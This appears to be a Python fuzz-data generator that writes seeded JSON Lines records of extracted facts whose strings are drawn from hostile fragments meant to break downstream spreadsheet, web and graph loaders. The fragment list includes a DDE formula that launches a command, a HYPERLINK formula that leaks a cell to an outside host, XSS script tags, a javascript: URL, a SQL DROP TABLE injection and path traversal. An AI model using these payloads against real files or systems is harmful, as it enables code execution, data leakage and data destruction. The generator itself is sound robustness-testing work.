"""Writes saved records (JSON Lines) whose strings are what a spreadsheet, a page or a graph loader would trip over.

    hostile_records.py COUNT [SEED [TEXTS]] > records.jsonl

COUNT facts, 20 to a document; the same seed gives the same bytes. The records are true of texts, which are written to TEXTS (JSON
Lines) for formats that read them; without it the documents are nowhere to be found, and their paths are hostile, too."""
import hashlib
import json
import random
import sys

TEXTS = sys.argv[3] if len(sys.argv) > 3 else None

PIECES = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x/?"&A1)', "@SUM(A1)",
          "\t", "\r", "\n", "\r\n", " ", "　", "\u200b", "\ufeff", ";", ",", "|", '"', '""', "'", "\\", "\x1b[31m", "\x01", "\x07",
          "\x7f", "\u0085", "\u202e", "\u2066", "\u200f", "\u2028", "<script>alert(1)</script>", "</script>", "<!--", "&amp;", "]]>",
          "_x0000_", "{", "}", "$", "`", "#", "https://", "file:///", "\U00020000", "\U0001f600", "e\u0301", "1", "-5.2", "100", "出口额",
          "增长", "亿元", "%", "%s%n", "../", "NUL", "1e5", "TRUE", "NULL", "DROP TABLE facts;--", "^", "~"]


def text(r):
    return "".join(r.choice(PIECES) for _ in range(r.randint(1, 6)))


def maybe(r, value):
    return value if r.random() < 0.8 else None


def number(r):
    kind = r.randint(0, 4)
    if kind == 0:
        return str(r.randint(-99, 99))
    if kind == 1:
        return "%d.%02d" % (r.randint(0, 10**6), r.randint(0, 99))
    if kind == 2:
        return str(r.randint(10**15, 10**24))
    if kind == 3:
        return "-" + str(r.randint(10**15, 10**24))
    return text(r)  # no writer may trust that it is a number


def figure(r):
    return {"kind": maybe(r, text(r)), "number": maybe(r, number(r)), "low": maybe(r, number(r)), "high": None, "fraction": None,
            "comparator": "eq", "cue": maybe(r, text(r)), "unit": {"kind": "money", "code": maybe(r, text(r)), "text": maybe(r, text(r))},
            "candidates": [text(r)] if r.random() < 0.3 else None, "object": maybe(r, text(r)), "significant_digits": 2}


def date(r):
    known = r.random() < 0.7
    return {"edtf": text(r) if known else None, "start": r.choice(["2024-02-29", "0044-03-15", text(r)]) if known else None,
            "end": "2024-12-31" if known else None, "grain": "year" if known else None, "relative": True, "anchor": None, "mod": None,
            "zone": None}


def place(source, start, end):
    """what a record says of source[start:end]"""
    before = source[:start].replace("\r\n", " \n").replace("\r", "\n")  # CR LF is one line end, of two characters
    if source[:start].endswith("\r") and source[start:start + 1] == "\n":
        before = before[:-1] + " "
    utf8 = [len(source[:at].encode()) for at in (start, end)]
    return {"text": source[start:end], "span": {"cp": [start, end], "utf8": utf8, "source": utf8, "line": before.count("\n") + 1,
                                                "column": len(before) - before.rfind("\n")}}


def document(r, number_of_document, facts, out, texts):
    doc = "d%d%s" % (number_of_document, text(r))

    def write(record, **members):
        out.write(json.dumps({"record": record, "doc": doc, **members}, ensure_ascii=r.random() < 0.5) + "\n")

    def mention(name, kind, start, end, **members):
        mentions.append({"id": "m" + prefix + name, "type": kind, "norm": source[start:end], "sentence": {"cp": [0, len(source)]},
                         "parent": None, **place(source, start, end), "entity": None, "rule": "r." + text(r), "confidence": 0.75,
                         **members})

    pieces = [text(r) for _ in range(facts + 2)]
    starts = [sum(map(len, pieces[:i])) for i in range(facts + 3)]
    source = "".join(pieces)
    texts.append({"id": doc, "text": source})
    url = r.choice([None, "https://example.org/" + text(r), "javascript:alert(1)", "internal:Sheet1!A1", text(r)])
    write("document", source={"path": TEXTS or text(r), "url": url, "sha256": hashlib.sha256(source.encode()).hexdigest(),
                              "encoding": "utf-8", "bytes": len(source.encode())},
          reference_date=None, model="0123456789abcdef", articles=[{"cp": [0, len(source)], "reference_date": maybe(r, text(r)),
                                                                      "date_source": text(r), "dateline": text(r), "agency": text(r),
                                                                      "place": text(r)}])
    prefix, entity = "%08x" % number_of_document, "org:" + text(r) + str(number_of_document)
    mentions, values = [], [figure(r) for _ in range(facts)]
    for i, value in enumerate(values):
        mention("%08x" % i, "FIGURE", starts[i], starts[i + 1], value=value)
    mention("date", "DATE", starts[facts], starts[facts + 1], value=date(r))
    mention("org", "ORG", starts[facts + 1], starts[facts + 2], value={"name": text(r), "kind": None}, entity=entity)
    for i in range(3):  # anywhere: across others, around them, inside them
        start, end = sorted(r.sample(range(len(source) + 1), 2))
        mention("any%d" % i, text(r), start, end, value={"name": text(r)})
    for m in sorted(mentions, key=lambda m: (m["span"]["cp"][0], -m["span"]["cp"][1])):
        write("mention", **m)
    write("entity", id=entity, type="ORG", name=text(r), names=[text(r), text(r)], mentions=["m%sorg" % prefix],
          links={"iso": None, "wikidata": maybe(r, text(r))})
    write("relation", relation="holds_post", person=entity, title=maybe(r, text(r)), of=maybe(r, text(r)), of_text=maybe(r, text(r)),
          former=False, mentions=["m%sorg" % prefix], sentence={"cp": [0, facts]}, rule="r")
    for i in range(facts):
        timed = r.random() < 0.5
        write("fact", id="f%s%08x" % (prefix, i), metric=maybe(r, text(r)), subject=[entity, text(r)][:r.randint(0, 2)],
              topic=maybe(r, text(r)), figure="m%s%08x" % (prefix, i), value=values[i],
              time_mention="m%sdate" % prefix if timed else None, time=date(random.Random(1)), change=maybe(r, "increase"),
              **{"from": None}, base=None, status="stated", attribution=maybe(r, entity), attribution_text=maybe(r, text(r)),
              sentence={"cp": [0, facts], "text": maybe(r, text(r) + text(r))}, rule="r." + text(r), confidence=0.5)
    write("warning", kind="change_disagrees", message=text(r), facts=["f%s%08x" % (prefix, 0)], sentence={"cp": [0, facts]})


def main():
    count, seed = int(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 1
    r, texts = random.Random(seed), []
    with open(sys.stdout.fileno(), "w", encoding="utf-8", newline="\n", closefd=False) as out:
        for i in range(0, count, 20):
            document(r, i // 20, min(20, count - i), out, texts)
    if TEXTS:
        with open(TEXTS, "w", encoding="utf-8", newline="\n") as out:
            for line in texts:
                out.write(json.dumps(line) + "\n")


main()
